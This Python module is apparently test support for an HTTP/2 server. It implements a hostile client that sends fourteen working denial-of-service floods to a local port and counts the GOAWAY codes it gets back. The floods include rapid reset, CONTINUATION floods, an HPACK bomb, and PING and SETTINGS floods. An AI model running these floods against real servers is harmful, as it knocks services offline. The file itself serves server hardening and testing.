"""One HTTP/2 client that means harm, as a program: ``python -m tests.support.http2flood KIND PORT NAME SECONDS``.

It sends its flood as fast as the other side takes it, and begins anew whenever it is shown out. The last line that it
prints is a JSON object: how many connections it took, and how often each GOAWAY code came.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import socket
import ssl
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator

from tests.support.http2 import (
    CONTINUATION,
    GET,
    HEADERS,
    POST,
    PREFACE,
    PRIORITY,
    SETTINGS,
    Fields,
    Frames,
    changed,
    data,
    frame,
    headers,
    literal,
    ping,
    rst_stream,
    settings,
    window_update,
)

Flood = Callable[[Fields, Fields], Iterator[bytes]]
_PIECE = 60_000


def _each_stream(make: Callable[[int], bytes]) -> Iterator[bytes]:
    return (make(stream) for stream in itertools.count(1, 2))


def _bomb(get: Fields, post: Fields) -> Iterator[bytes]:
    """A field of 3.8 KB goes into the table, and comes back by one byte a thousand times in each request."""
    large = b"\x40\x01a\x7f" + bytes([(3800 - 127) % 128 + 128, (3800 - 127) // 128]) + b"v" * 3800
    yield frame(HEADERS, 5, 1, literal(get) + large)
    yield from (frame(HEADERS, 5, stream, literal(get) + b"\xbe" * 8000) for stream in itertools.count(3, 2))


def _shut(get: Fields, post: Fields) -> Iterator[bytes]:
    """Everything is asked for, and nothing may be sent."""
    yield settings((4, 0))
    large = changed(get, path=b"/download?size=300000")
    yield from (headers(stream, large) for stream in range(1, 257, 2))
    while True:
        yield b""


def _dribble(get: Fields, post: Fields) -> Iterator[bytes]:
    """A large answer is fetched by the byte."""
    yield settings((4, 0)) + headers(1, changed(get, path=b"/download?size=10000000"))
    while True:
        yield window_update(1, 1) * 50


FLOODS: dict[str, Flood] = {
    "rapid-reset": lambda get, post: _each_stream(lambda stream: headers(stream, get) + rst_stream(stream)),
    "late-reset": lambda get, post: (
        b"".join(headers(s, get) for s in range(at, at + 200, 2))
        + b"".join(rst_stream(s) for s in range(at, at + 200, 2))
        for at in itertools.count(1, 200)
    ),
    "made-you-reset": lambda get, post: _each_stream(lambda stream: headers(stream, get) + window_update(stream, 0)),
    "continuation": lambda get, post: itertools.chain(
        [frame(HEADERS, 1, 1, literal(get))], itertools.repeat(frame(CONTINUATION, 0, 1, b"\0\1a\1b"))
    ),
    "empty-continuation": lambda get, post: itertools.chain(
        [frame(HEADERS, 1, 1, literal(get))], itertools.repeat(frame(CONTINUATION, 0, 1))
    ),
    "hpack-bomb": _bomb,
    "empty-data": lambda get, post: itertools.chain([headers(1, post, False)], itertools.repeat(data(1))),
    "one-byte-data": lambda get, post: itertools.chain(
        [headers(1, post, False)], itertools.repeat(data(1, b"x") * 100)
    ),
    "settings": lambda get, post: itertools.repeat(settings((4, 65535))),
    "empty-settings": lambda get, post: itertools.repeat(frame(SETTINGS, 0, 0)),
    "ping": lambda get, post: itertools.repeat(ping()),
    "priority": lambda get, post: itertools.repeat(frame(PRIORITY, 0, 1, b"\0\0\0\3\1")),
    "shut-windows": _shut,
    "dribble": _dribble,
}


def attack(flood: Flood, port: int, name: str, seconds: float) -> dict[str, object]:
    """Flood a port for so long; what came of it."""
    authority = name.encode("ascii")
    get, post = changed(GET, authority=authority, path=b"/echo"), changed(POST, authority=authority, path=b"/upload")
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    end = time.monotonic() + seconds
    connections, sent = 0, 0
    codes: Counter[str] = Counter()
    while time.monotonic() < end:
        frames = Frames()
        with (
            contextlib.suppress(OSError),
            socket.create_connection(("127.0.0.1", port), 10) as plain,
            context.wrap_socket(plain, server_hostname=name) as connection,
        ):
            connections += 1
            connection.settimeout(0.2)
            for piece in _pieces(PREFACE + settings(), flood(get, post), end):
                sent += _send(connection, piece)
                if not _read(connection, frames):
                    break
        codes.update(line.split()[3] for line in frames.lines if line.startswith("GOAWAY"))
    return {"connections": connections, "sent": sent, "codes": codes}


def _pieces(first: bytes, flood: Iterator[bytes], end: float) -> Iterator[bytes]:
    piece = first
    while time.monotonic() < end:
        for more in flood:
            piece += more
            if len(piece) > _PIECE or not more:
                break
        yield piece
        piece = b""


def _send(connection: ssl.SSLSocket, piece: bytes) -> int:
    with contextlib.suppress(TimeoutError):
        connection.sendall(piece)
    return len(piece)


def _read(connection: ssl.SSLSocket, frames: Frames) -> bool:
    """Take what came; whether the connection goes on."""
    connection.settimeout(0.01)
    with contextlib.suppress(TimeoutError):
        while received := connection.recv(65536):
            frames.feed(received)
            if frames.lines and frames.lines[-1].startswith("GOAWAY"):
                return False
        return False
    connection.settimeout(0.2)
    return True


if __name__ == "__main__":
    kind, port, name, seconds = sys.argv[1:]
    print(json.dumps(attack(FLOODS[kind], int(port), name, float(seconds))))
